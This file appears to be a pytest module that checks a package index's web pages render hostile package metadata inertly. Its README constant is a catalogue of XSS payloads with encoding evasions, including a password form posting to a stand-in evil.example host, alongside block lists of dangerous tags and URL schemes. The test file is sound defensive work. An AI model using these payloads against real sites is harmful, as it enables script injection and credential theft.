"""Hostile package metadata on the web interface's pages (issue 14), over plain HTTP: a README,
summary, project URLs, classifiers and license carrying <script>, event attributes, javascript:
and data: URLs (plain, mixed case, entity-encoded, with tabs and spaces), mXSS shapes, unbalanced
tags, deep nesting and a huge README. Every page that shows them (the package and version pages,
search, home, project and group pages) must hold none of it as live markup: the tests parse the
served HTML as a browser's tokenizer would and look at every start tag and attribute.

The browser-side proof (no alert, no DOM change, the CSP violation reported) is in
test_web_browser.py; this module is the HTTP side, and runs without a browser."""
from __future__ import annotations

import re

import pytest

from browser import Page, WebClient
from distributions import wheel
from whlib import assert_no_error_logged, upload_ok

HOSTILE_README = """# Hostile readme

<script>window.__pwned = 1; document.title = 'pwned'; alert(1)</script>
<img src=x onerror="window.__pwned=1;alert(1)">
<a href="javascript:alert(1)">click me</a>
<a href="JaVaScRiPt:alert(1)">mixed case</a>
<a href="&#106;avascript:alert(1)">entity</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>
<a href="jav&#x09;ascript:alert(1)">tab</a>
<a href=" javascript:alert(1)">space</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="vbscript:msgbox(1)">vb</a>
<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(1)">ok link</a>
<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
<svg onload="alert(1)"><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(1)">go</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/x.png) }</style>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<!-- <script>alert(1)</script> -->
<details open ontoggle="alert(1)"><summary>toggle</summary>details body</details>
<scr<script>ipt>alert(1)</scr</script>ipt>
<p>unbalanced <b>bold <i>italic
<div><div><div><table><tr><td>open cell

[md javascript](javascript:alert(1))
[md data](data:text/html,<script>alert(1)</script>)
[md entity](&#x6A;avascript:alert(1))
![md image](https://evil.example/tracker.png)
[md title](https://ok.example/t "x&quot; onmouseover=&quot;alert(1)")

Text after everything: still here.
"""
SUMMARY = '<script>alert("summary")</script><img src=x onerror=alert(2)> & "quoted"'
LICENSE = "<script>alert('license')</script>MIT"
CLASSIFIER = 'Topic :: <img src=x onerror=alert(3)> "quoted"'
PROJECT_URLS = ["Home, javascript:alert(1)",
                "Docs, data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                'Tricky" onmouseover="alert(1), https://ok.example/x"onmouseover="alert(1)',
                "Fine, https://ok.example/fine"]
REQUIRES = ['evil-dep>=1; extra == "<script>alert(4)</script>"']

# What the sanitiser may let through inside the README (the spec's allowlist).
ALLOWED_TAGS = set("a abbr b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i kbd "
                   "li ol p pre q s samp span strong sub summary sup table tbody td tfoot th thead tr "
                   "tt ul".split())
ALLOWED_ATTRS = {"a": {"href", "title", "rel"}, "td": {"align", "colspan", "rowspan"},
                 "th": {"align", "colspan", "rowspan"}, "ol": {"start"}, "abbr": {"title"},
                 "code": {"class"}, "pre": {"class"}, "span": {"class"}}
URL_ATTRS = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster",
             "background", "lowsrc", "dynsrc", "ping", "content")
NEVER = ("iframe", "object", "embed", "svg", "math", "style", "base", "template", "noscript",
         "frame", "frameset", "applet")


def scheme_of(value: str) -> str:
    """The scheme a browser would see: tabs and newlines removed, leading/trailing C0 controls
    and spaces stripped, case folded (the HTML parser has already decoded entities)."""
    v = re.sub(r"[\t\n\r]", "", value).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e"
                                             "\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a"
                                             "\x1b\x1c\x1d\x1e\x1f ").lower()
    m = re.match(r"([a-z][a-z0-9+.-]*):", v)
    return m.group(1) if m else ""


def assert_inert(page: Page):
    """No live markup from the metadata anywhere on the page."""
    for tag, attrs in page.start_tags:
        a = dict(attrs)
        where = f"<{tag} {attrs}> on {page.url}"
        assert not any(k.lower().startswith("on") for k in a), f"event handler: {where}"
        assert tag not in NEVER, f"dangerous element: {where}"
        if tag == "script":
            assert (a.get("src") or "").startswith("/-/static/"), f"script: {where}"
        if tag == "meta":
            assert "http-equiv" not in a, f"meta refresh: {where}"
        if tag == "link":
            assert (a.get("href") or "").startswith("/-/static/"), f"foreign link: {where}"
        if tag == "img":
            assert (a.get("src") or "").startswith("/") and not a["src"].startswith("//"), where
        for k in URL_ATTRS:
            if a.get(k):
                assert scheme_of(a[k]) not in ("javascript", "data", "vbscript", "livescript"), \
                    f"dangerous URL in {k}: {where}"
        if tag == "form":
            assert (a.get("action") or "/").startswith("/") and not a["action"].startswith("//"), where


def assert_readme_sanitised(page: Page):
    readme = page.one("div#readme")
    for el in readme.elements():
        assert el.tag in ALLOWED_TAGS, f"<{el.tag}> in the README: {el}"
        extra = set(el.attrs) - ALLOWED_ATTRS.get(el.tag, set())
        assert not extra, f"attributes {extra} on <{el.tag}> in the README"
        if el.tag == "a":
            assert {"nofollow", "noopener"} <= set(el.get("rel", "").split()), el
        if "class" in el.attrs:  # a code language, or the renderer's own plain-text wrapper
            assert re.fullmatch(r"language-[a-z0-9+-]+", el.get("class")) or \
                (el.tag == "pre" and el.get("class") == "readme-text" and el.parent is readme), el
    assert "Text after everything: still here." in readme.text, "the sanitiser lost the rest"
    title = page.first("title")
    assert title is None or "pwned" not in title.text, title
    for css in ("ul#versions", "table#files", "ul#dependencies", "ul#classifiers"):
        el = page.first(css)
        assert el is not None, css
        assert readme not in el.ancestors(), f"the README's open tags swallowed {css}"
    links = {a.stripped: a.get("href") for a in readme.select("a")}
    assert links.get("ok link") == "https://ok.example/", links
    for text in ("click me", "mixed case", "entity", "tab", "space", "data link", "vb",
                 "md javascript", "md data", "md entity"):
        assert links.get(text) is None or scheme_of(links[text]) in ("http", "https", ""), (text, links)


@pytest.fixture(scope="module")
def hostile(web):
    """wh-hostile 1.0 in pub/open (public): the hostile README (Markdown) in the wheel's METADATA
    and the form, and hostile summary, license, classifier, project URLs and a dependency."""
    wh = web.server
    meta = (f"Summary: {SUMMARY}\nLicense: {LICENSE}\nClassifier: {CLASSIFIER}\n"
            + "".join(f"Project-URL: {u}\n" for u in PROJECT_URLS)
            + "".join(f"Requires-Dist: {r}\n" for r in REQUIRES)
            + "Description-Content-Type: text/markdown\n\n" + HOSTILE_README)
    d = wheel("wh-hostile", "1.0", extra_meta=meta)
    mark = wh.log_mark()
    upload_ok(wh, web.pid("pub/open"), d, "wh-hostile", "1.0", web.alice, fields={
        "summary": SUMMARY, "license": LICENSE, "classifiers": [CLASSIFIER],
        "project_urls": PROJECT_URLS, "requires_dist": REQUIRES, "description": HOSTILE_README,
        "description_content_type": "text/markdown"})
    return mark


PAGES = ["/pub/open/-/packages/wh-hostile", "/pub/open/-/packages/wh-hostile/1.0",
         "/-/search?q=wh-hostile", "/-/search?q=hostile", "/", "/pub/open", "/pub"]


@pytest.mark.parametrize("path", PAGES)
def test_no_page_shows_hostile_metadata_as_markup(web, hostile, path):
    page = WebClient(web.server.base).page(path)
    assert "wh-hostile" in page.text, f"the hostile package is not on {path}"
    assert_inert(page)


def test_the_hostile_readme_is_sanitised(web, hostile):
    page = WebClient(web.server.base).page("/pub/open/-/packages/wh-hostile")
    assert_readme_sanitised(page)
    readme = page.one("div#readme")
    assert not readme.select("img") and "md image" in readme.text, "an image became no alt text"


def test_hostile_text_fields_are_shown_as_text(web, hostile):
    page = WebClient(web.server.base).page("/pub/open/-/packages/wh-hostile")
    assert page.one("p#summary").stripped == " ".join(SUMMARY.split())
    assert LICENSE in page.one("#license").stripped
    assert " ".join(CLASSIFIER.split()) in {li.stripped for li in page.all("ul#classifiers li")}
    assert REQUIRES[0] in {li.stripped for li in page.all("ul#dependencies li")}
    urls = {a.stripped: a.get("href") for a in page.all("ul#project-urls li a")}
    assert urls.get("Fine") == "https://ok.example/fine", urls
    for label in ("Home", "Docs"):
        href = urls.get(label)
        assert href is None or scheme_of(href) in ("http", "https"), (label, urls)
    search = WebClient(web.server.base).page("/-/search?q=wh-hostile")
    (li,) = search.all("ul#results > li.result")
    assert li.select_one(".summary").stripped == " ".join(SUMMARY.split())


def test_nothing_hostile_broke_the_server(web, hostile):
    for path in PAGES:
        WebClient(web.server.base).page(path)
    assert_no_error_logged(web.server, hostile)


@pytest.mark.parametrize("content_type", [None, "text/plain", "text/x-rst"])
def test_a_readme_that_is_not_markdown_is_escaped_text(web, content_type, tmp_path):
    wh = web.server
    name = f"wh-hostile-{(content_type or 'none').replace('/', '-')}"
    extra = f"Description-Content-Type: {content_type}\n" if content_type else ""
    d = wheel(name, "1.0", extra_meta=f"Summary: text readme\n{extra}\n{HOSTILE_README}")
    upload_ok(wh, web.pid("pub/open"), d, name, "1.0", web.alice)
    page = WebClient(wh.base).page(f"/pub/open/-/packages/{name}")
    assert_inert(page)
    readme = page.one("div#readme")
    pre = readme.select_one("pre")
    assert pre is not None and "<script>window.__pwned = 1;" in pre.text, readme
    assert [e.tag for e in readme.elements()] == ["pre"], [e.tag for e in readme.elements()]


@pytest.mark.parametrize("shape", ["huge", "deep-html", "deep-markdown"])
def test_huge_or_deeply_nested_readmes_render_bounded_and_balanced(web, shape):
    wh = web.server
    body = {"huge": ("lorem <b>ipsum</b> " * 40000),  # ~760 KiB
            "deep-html": "<div>" * 5000 + "deep" + "<script>alert(1)</script>",
            "deep-markdown": ">" * 5000 + " deep\n\n" + "- " * 2000 + "list"}[shape]
    name = f"wh-{shape}"
    d = wheel(name, "1.0", extra_meta=f"Summary: {shape}\nDescription-Content-Type: text/markdown\n\n{body}")
    upload_ok(wh, web.pid("pub/open"), d, name, "1.0", web.alice)
    page = WebClient(wh.base).page(f"/pub/open/-/packages/{name}")
    assert_inert(page)
    readme = page.one("div#readme")
    for css in ("ul#versions", "table#files"):
        assert readme not in page.one(css).ancestors(), f"{css} ended up inside the README"
    depth = max((sum(1 for _ in e.ancestors()) for e in readme.elements()), default=0)
    assert depth < 200, f"nesting {depth} deep: not capped"
    if shape == "huge":
        assert len(readme.text.encode()) <= 512 * 1024 + 4096, len(readme.text.encode())
        assert len(page.text.encode()) < 2 * 1024 * 1024, len(page.text)
